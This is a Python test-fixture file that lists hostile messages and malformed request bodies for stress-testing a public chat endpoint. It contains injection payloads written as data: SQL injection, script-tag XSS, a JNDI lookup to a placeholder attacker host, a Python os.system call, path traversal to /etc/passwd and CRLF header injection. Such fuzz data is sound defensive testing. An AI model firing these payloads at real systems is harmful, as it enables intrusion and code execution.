"""Messages and request bodies that a public chat endpoint must survive."""
import json
from typing import List

# Texts a visitor (or a script) might send as the message.
HOSTILE_MESSAGES: List[str] = [
    "", " ", "\n\n\n", "\t", "\u200b", "\u200b\u200b\u200b", "\ufeff",
    "a" * 1000, "a" * 1001, "exosome " * 200, "x" * 5000, "supercalifragilistic" * 40,
    "'; DROP TABLE events; --", "\" OR 1=1 --", "1; SELECT * FROM events", "admin'--",
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "javascript:alert(1)", "<a href='http://evil.test'>hi</a>",
    "{phone}", "{name}{email}", "{0}", "%s%s%s%n", "{{7*7}}", "${jndi:ldap://evil.test/a}", "__import__('os').system('id')",
    "/restart", "/session_start", "/action_listen", "/nonexistent_intent", '/ask_cost{"price": "0"}', "/ask_cost{broken json",
    "/", "//", "/ /", "/action_restart",
    "../../../../etc/passwd", "C:\\Windows\\system32", "file:///etc/passwd",
    "\u202eexosomes", "e\u0301x\u0301o\u0301s\u0301o\u0301m\u0301e\u0301", "😀" * 50, "🧴💉✨ exosomes?", "中文问题：外泌体是什么？",
    "¿Qué son los exosomas?", "ما هي الإكسوسومات؟", "\x00\x01\x02", "null", "undefined", "NaN", "true", "[]", "{}",
    "0", "-1", "1e309", "💩" * 300, "a\nb\nc\n" * 100, "\\u0000", "%00", "%0d%0aSet-Cookie: x=y",
]

# Raw request bodies that are not a visitor message at all.
HOSTILE_BODIES: List[bytes] = [
    b"", b"not json", b"{", b"[1, 2, 3]", b"null", b"42", b'"a string"', b"\xff\xfe\xfd\x00",
    b'{"sender": "a", "message": "caf\xe9"}', b'{"sender": "a"}', b'{"message": "hi"}',
    b'{"sender": "a", "message": null}', b'{"sender": "a", "message": 12}', b'{"sender": "a", "message": ["hi"]}',
    b'{"sender": "a", "message": {"text": "hi"}}', b'{"sender": null, "message": "hi"}', b'{"sender": ["a"], "message": "hi"}',
    json.dumps({"sender": "s" * 500, "message": "hi"}).encode(), json.dumps({"sender": "a", "message": "x" * 100_000}).encode(),
    b"\x00" * 1000, b'{"sender": "a", "message": "hi", "input_channel": "cmdline", "metadata": {"x": 1}}',
]
